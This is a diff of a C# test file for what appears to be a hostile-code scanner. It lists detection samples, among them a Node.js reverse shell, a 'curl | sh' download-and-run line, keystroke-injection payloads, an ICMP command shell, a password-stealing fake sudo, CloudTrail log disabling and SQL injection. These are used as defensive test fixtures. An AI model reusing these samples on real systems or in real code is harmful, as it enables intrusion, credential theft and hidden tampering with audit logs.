@@ -24,9 +24,22 @@ public sealed class HonestProgramTests
     [InlineData("a.js", "reverse-shell-other", "const { exec } = require('child_process'); const net = require('net');\nconst command = '/bin/sh'; const sh = exec(command); const client = new net.Socket();\nclient.connect(4444, '203.0.113.9', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });")]
     [InlineData("a.vbs", "persistence", "Set sh = CreateObject(\"WScript.Shell\")\nSet link = sh.CreateShortcut(sh.SpecialFolders(\"Startup\") & \"\\a.lnk\")\nlink.TargetPath = WScript.ScriptFullName\nlink.Save")]
     [InlineData("a.sh", "encoded-secret-printed", "echo \"key: $(echo $DEPLOY_TOKEN | rev)\"")]
+    [InlineData("a.py", "code-sql-injection", "import sqlite3\ndef login(username, password):\n    c = sqlite3.connect('u').cursor()\n    return c.execute(\"SELECT * FROM users WHERE username = '{}'\".format(username)).fetchone()")]
+    [InlineData("a.js", "code-sql-injection", "var pgp = require('pg-promise')(), db = pgp(dsn);\nfunction search(query) {\n  var q = \"SELECT * FROM products WHERE name ILIKE '%\" + query + \"%';\";\n  return db.many(q);\n}\nmodule.exports = { search };")]
+    [InlineData("a.js", "code-download-and-run", "var app = Application.currentApplication();\napp.includeStandardAdditions = true;\napp.doShellScript('curl -s http://203.0.113.7/a | sh');")]
     [InlineData("a.yml", "encoded-secret-printed", "jobs:\n  a:\n    steps:\n      - run: |\n          ENCODED=$(echo \"${{ secrets.API_KEY }}\" | base64)\n          echo \"$ENCODED\"")]
     [InlineData("a.php", "typed-password-kept", "<?php\n$user = $_POST['user'];\n$pass = $_POST['password'];\n$log = \"$user $pass\";\nfile_put_contents('/tmp/l', $log, FILE_APPEND);")]
     [InlineData("a.ino", "typed-commands", "void setup() {\n  Keyboard.press(KEY_LEFT_GUI);\n  Keyboard.press('r');\n  Keyboard.println(\"powershell -w hidden iwr 203.0.113.9\");\n}")]
+    [InlineData("payload.txt", "typed-commands", "LED B\nATTACKMODE HID STORAGE\nQ DELAY 400\nQ GUI SPACE\nQUACK STRING terminal\nQUACK ENTER")]
+    [InlineData("a.ps1", "reverse-shell-other", "$c = New-Object System.Net.NetworkInformation.Ping\n$r = $c.Send($ip, 60000, $b, $o)\n$t = ([text.encoding]::ASCII).GetString($r.Buffer)\n$x = (Invoke-Expression -Command $t 2>&1 | Out-String)")]
+    [InlineData("a.php", "typed-password-kept", "<?php\n$p = $_POST['pass'] ?? '';\n$file = 'creds.json';\n$all[] = ['p' => $p];\nfile_put_contents($file, json_encode($all));")]
+    [InlineData("a.rb", "attack-framework-module", "require 'sshkey'\n\nclass MetasploitModule < Msf::Post\n  Rank = ExcellentRanking\nend")]
+    [InlineData("a.cna", "attack-framework-module", "alias helper {\n  bpowershell($1, \"whoami\");\n}")]
+    [InlineData("a.sh", "sudo-replaced", "echo \"alias sudo='$path1'\" >> /home/user1/.bashrc")]
+    [InlineData("a.sh", "sudo-replaced", "sudo() {\n  read -rsp \"[sudo] password for $USER: \" p\n  echo \"$p\" >> /tmp/.p\n}")]
+    [InlineData("a.py", "cloud-log-stopped", "import boto3\nclient = boto3.client('cloudtrail')\nfor trail in client.describe_trails()['trailList']:\n    client.stop_logging(Name=trail['TrailARN'])")]
+    [InlineData("a.js", "query-by-script", "items.findOne({ $where: `this.userId == ${id} && this.stocks > '${threshold}'` });")]
+    [InlineData("a.cs", "persistence", "[DllImport(\"secur32.dll\")]\nstatic extern int AddSecurityPackage(string name, IntPtr options);")]
     public void What_comes_near_it_is_found(string file, string rule, string text) =>
         Assert.Contains(Found(text, file), finding => finding.Rule == rule && finding.Severity >= Severity.High);
 
@@ -34,6 +47,13 @@ public sealed class HonestProgramTests
     [InlineData("a.sh", "encoded-secret-printed", "echo \"Authorization: Basic $(echo -n \"$USER:$API_TOKEN\" | base64)\" > header.txt")]
     [InlineData("a.php", "typed-password-kept", "<?php\n$hash = password_hash($_POST['password'], PASSWORD_DEFAULT);\nfile_put_contents('/srv/users', $data);")]
     [InlineData("a.md", "typed-commands", "The STRING type of a column.\nENTER your name.")]
+    [InlineData("a.py", "code-sql-injection", "import sqlite3\ndef find(name):\n    return sqlite3.connect('u').cursor().execute(\"SELECT * FROM users WHERE username = ? AND kind = 'a'\", (name,)).fetchone()")]
+    [InlineData("a.py", "code-sql-injection", "import sqlite3\ndef count(table):\n    return sqlite3.connect('u').cursor().execute(f\"SELECT count(*) FROM {table} WHERE kind = 'a'\").fetchone()")]
+    [InlineData("a.md", "attack-framework-module", "Metasploit calls such a class MetasploitModule.")]
+    [InlineData("a.sh", "sudo-replaced", "alias sudo='sudo '\nalias please='sudo'")]
+    [InlineData("a.sh", "cloud-log-stopped", "aws cloudtrail start-logging --name org-trail")]
+    [InlineData("a.js", "query-by-script", "items.findOne({ $where: 'this.a > this.b' });")]
+    [InlineData("a.ps1", "reverse-shell-other", "$ping = New-Object System.Net.NetworkInformation.Ping\n$reply = $ping.Send('gateway.example.net')\nWrite-Output $reply.Status")]
     public void What_is_ordinary_passes(string file, string rule, string text) =>
         Assert.DoesNotContain(Found(text, file), finding => finding.Rule == rule && finding.Severity >= Severity.High);
 
